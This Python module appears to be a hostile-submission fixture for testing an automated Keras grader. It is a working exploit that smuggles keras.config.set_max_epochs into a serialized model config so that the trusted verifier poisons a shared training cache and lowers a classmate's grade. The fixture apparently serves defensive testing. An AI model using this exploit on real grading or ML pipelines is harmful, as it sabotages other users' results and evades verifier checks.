"""Poisons the training cache for the next student. Its exercise 4 model is unbuilt, and its last layer is
a small functional model whose side branch applies `Activation(keras.config.set_max_epochs)` to the
scalar 1; `to_json` is overridden so the config names that function with module "keras.config" (a
Keras module, which a module check alone lets through). Rebuilt and called in the trusted verifier, it
would set `keras.config.max_epochs()` to 1 for the rest of that process: the student's exercise 5 (the
reference compile settings, and a recipe a classmate also uses) would then train 1 epoch and store that
accuracy in the shared training cache under the honest key, and the classmate graded next would reuse
it (17/21 instead of 21/21, as root and unprivileged). The tests give it that exercise 5."""
import json

import keras


def _fix(node):
    if isinstance(node, dict):
        if node.get("class_name") == "function" and node.get("config") == "set_max_epochs":
            node["module"] = "keras.config"
            node["registered_name"] = None
        for v in node.values():
            _fix(v)
    elif isinstance(node, list):
        for v in node:
            _fix(v)


def build_model():
    inner_in = keras.Input(shape=(10,))
    side = keras.ops.cast(keras.ops.mean(inner_in) * 0.0 + 1.0, "int32")
    side = keras.layers.Activation(keras.config.set_max_epochs)(side)
    inner = keras.Model(inner_in, inner_in + 0.0 * keras.ops.cast(side, "float32"))
    model = keras.Sequential([keras.layers.Flatten(), keras.layers.Dense(128, activation="relu"),
                              keras.layers.Dense(10), inner])
    config = json.loads(model.to_json())
    _fix(config)
    crafted = json.dumps(config)
    model.to_json = lambda **kwargs: crafted
    return model
